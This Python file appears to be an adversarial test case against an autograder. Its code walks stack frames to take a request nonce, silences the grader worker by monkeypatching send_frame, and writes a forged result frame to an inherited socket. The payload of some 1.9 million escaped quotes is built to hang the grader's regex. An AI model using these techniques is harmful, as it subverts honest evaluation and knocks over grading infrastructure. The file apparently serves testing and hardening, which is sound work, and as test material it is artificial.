"""Strategy: send a body of quotation marks that never end, on which a pattern goes back again and again. Surface: the regular expression that measures depth, which holds the interpreter's lock.

Class: result channel. Unprotected: grader unterminated hangs. Level: 5.
Must get 0: the pattern never goes back: a string that does not end is taken as one token.
"""

import json
import socket
import struct
import sys
import time


def nonce():
    """The number of the request, from a variable of whoever called."""
    frame = sys._getframe(1)
    while frame is not None:
        if hasattr(frame.f_locals.get("frame"), "nonce"):
            return frame.f_locals["frame"].nonce
        frame = frame.f_back
    return 0


def silence():
    """Keep the worker from sending a reply of its own."""
    try:
        import autograder.worker.main as worker
    except ImportError:
        return
    worker.send_frame = lambda *frame: None


def packed(number, body, tensors=struct.pack("<I", 0), kind=5, length=None):
    payload = struct.pack("<I", len(body)) + body + tensors
    return struct.pack("<4sB3xQQ", b"FUS1", kind, number, len(payload) if length is None else length) + payload


def send(data):
    with socket.socket(fileno=socket.dup(3)) as channel:
        channel.setblocking(True)
        try:
            channel.sendall(data)
        except OSError:
            pass


def read_graph(rows):
    send(packed(nonce(), b'{"value": "' + b'\\"' * 1_900_000))
    silence()
    return {}
